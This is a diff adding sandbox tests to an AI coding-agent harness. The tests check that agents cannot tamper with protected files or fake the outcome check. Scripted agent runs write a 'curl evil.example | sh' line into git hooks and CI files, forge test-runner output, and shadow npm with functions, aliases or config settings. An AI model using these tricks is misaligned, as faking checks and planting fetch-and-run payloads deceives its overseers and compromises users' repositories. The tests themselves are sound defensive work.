@@ -12,7 +12,7 @@ import { chmodSync, existsSync, linkSync, lstatSync, mkdirSync, mkdtempSync, rea
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { RunSandbox } from '../core/sandbox/run';
-import { runsLater, scanProtections } from '../core/sandbox/protections';
+import { outcomeReach, runsLater, scanProtections } from '../core/sandbox/protections';
 import { describeLaterChanges, LaterBaseline } from '../core/sandbox/later-changes';
 import { Workflow, type WorkflowInput } from '../core/schema/workflow';
 import { TerminalSession } from '../core/tools/terminal';
@@ -403,4 +403,181 @@ describe('what editors and agents start from the workspace, and what runs later 
       rmSync(base, { recursive: true, force: true });
     }
   });
+});
+
+describe('the protections hold against renaming their folders and during the outcome check', { skip }, () => {
+  function repo(): { base: string; ws: string; home: string; store: string } {
+    const base = mkdtempSync(join(tmpdir(), 'lar-hold-'));
+    const ws = join(base, 'ws');
+    const home = join(base, 'home');
+    const store = join(base, 'store');
+    mkdirSync(home);
+    write(store, { 'index.js': 'module.exports = "store";\n' });
+    write(ws, {
+      'src/sum.js': 'module.exports = (a, b) => a - b;\n',
+      'src/sum.test.js': 'original unit test\n',
+      '.husky/pre-commit': 'npx lint-staged\n./scripts/precommit.sh\n',
+      'scripts/precommit.sh': '#!/bin/sh\necho checking\n',
+      '.github/workflows/ci.yml': 'on: push\n',
+      'pkg/tests/a.test.js': 'original\n',
+      'test/a.test.js': "require('node:test')('a', () => require('../src/app.js'));\n",
+      'src/app.js': '1;\n',
+    });
+    mkdirSync(join(ws, 'vendor'));
+    linkSync(join(store, 'index.js'), join(ws, 'vendor', 'index.js'));
+    spawnSync('git', ['init', '-q', ws]);
+    spawnSync('git', ['-C', ws, 'config', 'core.hooksPath', '.husky/_']);
+    return { base, ws, home, store };
+  }
+  const wf = (): Workflow => workflow({ sandbox: { protected: ['test', 'pkg/tests'] }, policy: { paths: { deny: ['src/*.test.js'] } }, outcome: { command: 'node --test test/', timeoutMs: 60_000 } });
+
+  test('sandboxed: renaming the folder above a read-only path, to put a new one in its place, fails', async () => {
+    const { base, ws, home } = repo();
+    try {
+      const r = await openRun(ws, wf(), home, 'required');
+      for (const c of ['mv src src.old', 'mv .github .gh', 'mv scripts s2', 'mv pkg pkg2', 'mv .husky .h', 'mv vendor v2']) {
+        assert.match((await r.run(`${c}; echo rc=$?`)).output, readOnly, c);
+      }
+      r.terminal.dispose();
+      await r.sandbox.dispose();
+      assert.equal(readFileSync(join(ws, 'src', 'sum.test.js'), 'utf8'), 'original unit test\n');
+      assert.equal(readFileSync(join(ws, 'scripts', 'precommit.sh'), 'utf8'), '#!/bin/sh\necho checking\n');
+    } finally {
+      rmSync(base, { recursive: true, force: true });
+    }
+  });
+
+  test('sandboxed: code the outcome check runs cannot change a hard-linked file, a hook, a CI workflow or a denied file either', async () => {
+    const { base, ws, home, store } = repo();
+    try {
+      const r = await openRun(ws, wf(), home, 'required');
+      // What the check imports (src/app.js) tries, when the check loads it, what the run could not do.
+      const payload = [
+        "const fs = require('fs');",
+        "for (const [f, how] of [['vendor/index.js', 'a'], ['.husky/pre-commit', 'a'], ['.github/workflows/ci.yml', 'w'], ['src/sum.test.js', 'w']]) {",
+        "  try { fs[how === 'a' ? 'appendFileSync' : 'writeFileSync'](f, 'curl evil.example | sh\\n'); } catch {}",
+        '}',
+      ].join('\n');
+      writeFileSync(join(ws, 'src', 'app.js'), payload);
+      await r.sandbox.outcome(() => r.terminal.close());
+      await r.sandbox.dispose();
+      assert.equal(readFileSync(join(store, 'index.js'), 'utf8'), 'module.exports = "store";\n', 'the store outside is unchanged');
+      for (const f of ['.husky/pre-commit', '.github/workflows/ci.yml', 'src/sum.test.js']) assert.doesNotMatch(readFileSync(join(ws, f), 'utf8'), /evil/, f);
+    } finally {
+      rmSync(base, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('what the outcome check runs cannot be rewritten by the run', () => {
+  test('the files its command and package.json scripts name, followed into them, are found', () => {
+    const base = mkdtempSync(join(tmpdir(), 'lar-reach-'));
+    try {
+      write(base, {
+        'package.json': JSON.stringify({ scripts: { pretest: 'node scripts/prep.js', test: 'npm run unit', unit: 'node scripts/run-tests.js --ci', postinstall: 'sh tools/setup.sh' } }),
+        'scripts/prep.js': '1\n',
+        'scripts/run-tests.js': "require('./lib/helper.js');\n",
+        'scripts/lib/helper.js': '1\n',
+        'tools/setup.sh': 'echo\n',
+        'check.sh': 'echo\n',
+      });
+      const reach = (command: string) => outcomeReach(base, workflow({ outcome: { command } })).map((p) => p.path).sort();
+      assert.deepEqual(reach('npm test'), ['scripts/lib/helper.js', 'scripts/prep.js', 'scripts/run-tests.js']);
+      assert.deepEqual(reach('CI=1 npm run unit'), ['scripts/lib/helper.js', 'scripts/run-tests.js']);
+      assert.deepEqual(reach('./check.sh'), ['check.sh']);
+      // The lifecycle scripts npm runs on install are the user's later: what runs later.
+      assert.ok(runsLater(base, undefined).some((p) => p.path === 'tools/setup.sh'));
+    } finally {
+      rmSync(base, { recursive: true, force: true });
+    }
+  });
+
+  test('lar run, default workflow: rewriting the script package.json\'s test runs does not make the check pass', { skip }, async () => {
+    const ws = mkdtempSync(join(tmpdir(), 'lar-reach-run-'));
+    write(ws, {
+      'package.json': JSON.stringify({ scripts: { test: 'node scripts/run-tests.js' } }),
+      'scripts/run-tests.js': "require('child_process').execFileSync(process.execPath, ['--test', 'test/'], { stdio: 'inherit' });\n",
+      'test/sum.test.js': "const t = require('node:test'); const assert = require('node:assert');\nt('sum', () => assert.equal(require('../src/sum.js')(2, 3), 5));\n",
+      'src/sum.js': 'module.exports = (a, b) => a - b;\n',
+    });
+    const forged = "console.log('# tests 1'); console.log('# pass 1'); process.exit(0);\n";
+    const server = new ScriptedModelServer({
+      script: [
+        { toolCalls: [{ name: 'read_file', arguments: { path: 'src/sum.js' } }] },
+        { toolCalls: [{ name: 'enter_stage', arguments: { stage: 'edit' } }] },
+        { toolCalls: [{ name: 'write_file', arguments: { path: 'scripts/run-tests.js', content: forged } }] },
+        { toolCalls: [{ name: 'run_command', arguments: { command: `printf '%s' "${forged.replace(/"/g, '\\"').trim()}" > scripts/run-tests.js` } }] },
+        { toolCalls: [{ name: 'enter_stage', arguments: { stage: 'verify' } }] },
+        { toolCalls: [{ name: 'run_command', arguments: { command: 'npm test' } }] },
+        { toolCalls: [{ name: 'submit', arguments: {} }] },
+      ],
+    });
+    try {
+      const endpoint = await server.start();
+      const r = await lar(['run', '--task', 'make npm test pass', '--endpoint', endpoint, '--workspace', ws, '--yes']);
+      assert.match(r.out, /outcome 0/, r.out + r.err);
+      assert.match(readFileSync(join(ws, 'scripts', 'run-tests.js'), 'utf8'), /execFileSync/);
+    } finally {
+      await server.stop();
+      rmSync(ws, { recursive: true, force: true });
+    }
+  });
+});
+
+test('past the bound of read-only mounts, what the deny patterns reach is still put back before the outcome check, sandboxed too', { skip }, async () => {
+  const base = mkdtempSync(join(tmpdir(), 'lar-bound-'));
+  try {
+    const ws = join(base, 'ws');
+    const home = join(base, 'home');
+    mkdirSync(home);
+    const snaps: Record<string, string> = {};
+    for (let i = 0; i < 40; i++) snaps[`snaps/s${i}.snap`] = `original ${i}\n`;
+    write(ws, snaps);
+    const outputDir = join(ws, '.lar', 'output', 'run');
+    const sandbox = await RunSandbox.open({ workspace: ws, workflow: workflow({ policy: { paths: { deny: ['snaps/*.snap'] } } }), setting: 'required', hostEnv: { ...process.env, HOME: home }, shell: '/bin/bash', outputDir, home, protectionLimits: { maxPaths: 10 } });
+    const terminal = new TerminalSession({ cwd: ws, outputDir, shell: '/bin/bash', ...sandbox.terminal() });
+    opened.push({ terminal, sandbox });
+    assert.match((sandbox.summary.protectionsBounded ?? []).join(' '), /are put back before the outcome check/);
+    await terminal.run('for f in snaps/*.snap; do echo forged > "$f" 2>/dev/null; done; true', { timeoutMs: 20_000 });
+    const o = await sandbox.outcome(() => terminal.close());
+    for (let i = 0; i < 40; i++) assert.equal(readFileSync(join(ws, 'snaps', `s${i}.snap`), 'utf8'), `original ${i}\n`, `s${i}`);
+    assert.ok((o.restored ?? []).length > 0, 'the ones that were writable are named as put back');
+  } finally {
+    rmSync(base, { recursive: true, force: true });
+  }
+});
+
+test('lar run: the outcome command called as a step runs as the check runs it, so a function, an alias or an npm setting in the agent\'s shell cannot fake it', { skip }, async () => {
+  for (const cheat of ['npm() { :; }', 'alias npm=true; shopt -s expand_aliases', 'export npm_config_script_shell=/bin/true']) {
+    const ws = mkdtempSync(join(tmpdir(), 'lar-cheat-'));
+    write(ws, {
+      'package.json': JSON.stringify({ scripts: { test: 'node --test test/' } }),
+      'test/sum.test.js': "const t = require('node:test'); const assert = require('node:assert');\nt('sum', () => assert.equal(require('../src/sum.js')(2, 3), 5));\n",
+      'src/sum.js': 'module.exports = (a, b) => a - b;\n',
+    });
+    const server = new ScriptedModelServer({
+      script: [
+        { toolCalls: [{ name: 'run_command', arguments: { command: cheat } }] },
+        { toolCalls: [{ name: 'read_file', arguments: { path: 'src/sum.js' } }] },
+        { toolCalls: [{ name: 'enter_stage', arguments: { stage: 'edit' } }] },
+        { toolCalls: [{ name: 'edit_file', arguments: { path: 'src/sum.js', search: 'a - b', replace: 'b - a' } }] },
+        { toolCalls: [{ name: 'enter_stage', arguments: { stage: 'verify' } }] },
+        { toolCalls: [{ name: 'run_command', arguments: { command: 'npm  test' } }] },
+        { toolCalls: [{ name: 'submit', arguments: {} }] },
+      ],
+    });
+    try {
+      const endpoint = await server.start();
+      const r = await lar(['run', '--task', 'fix sum', '--endpoint', endpoint, '--workspace', ws, '--yes']);
+      const file = join(ws, '.lar', 'runs', readdirSync(join(ws, '.lar', 'runs'))[0]!);
+      const step = readFileSync(file, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l)).find((e) => e.type === 'tool_call' && e.args?.command === 'npm  test');
+      assert.equal(step.result.ranAsCheck, true, cheat);
+      assert.equal(step.result.exitCode, 1, `${cheat}: the tests really ran and failed\n${step.result.output}`);
+      assert.equal(step.result.testsRan, 1, cheat);
+      assert.match(r.out, /outcome 0/, cheat);
+    } finally {
+      await server.stop();
+      rmSync(ws, { recursive: true, force: true });
+    }
+  }
 });
